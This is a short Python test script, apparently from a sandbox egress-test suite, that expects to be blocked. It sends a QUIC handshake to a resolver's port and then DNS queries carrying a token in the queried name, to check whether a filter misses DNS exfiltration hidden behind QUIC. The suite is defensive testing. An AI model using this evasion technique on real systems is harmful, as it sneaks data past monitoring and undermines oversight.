#!/usr/bin/python3
# id: d39_quic_dns
# title: a QUIC hello to the resolver's port, and then queries that carry the token
# needs: user
# expect: block
# why: what a socket sends by QUIC is read by nobody who reads questions
import sys, os; sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
from bp import *
try: from aioquic.quic.connection import QuicConnection; from aioquic.quic.configuration import QuicConfiguration
except ImportError: cannot('no aioquic')
def f():
    c = QuicConnection(configuration=QuicConfiguration(is_client=True, alpn_protocols=['h3'], server_name=ANAME)); c.connect((ALLOW, 53), now=0)
    s = socket.socket(type=socket.SOCK_DGRAM)
    def send(d, port=53):
        try: s.sendto(d, (ALLOW, port))
        except OSError as e: print(e)
    send(b'\0', P_QUIC)      # the socket is one with QUIC from here on
    for d, _ in c.datagrams_to_send(now=0): send(d)
    time.sleep(1)
    for k in range(3): send(dnsq(f'{TOK}.{FNAME}', tid=k)); time.sleep(.2)
attempt(f, dst=(ALLOW,), chan=('dns',))
